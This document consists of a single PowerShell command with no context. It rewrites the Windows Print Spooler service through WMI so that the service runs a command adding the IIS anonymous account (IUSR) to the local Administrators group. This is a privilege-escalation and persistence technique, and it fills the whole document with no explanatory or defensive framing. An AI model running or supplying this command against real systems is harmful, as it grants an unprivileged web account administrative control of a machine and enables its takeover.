(Get-WmiObject Win32_Service -Filter "Name='Spooler'").Change($null, 'cmd /c net localgroup Administrators IUSR /add')
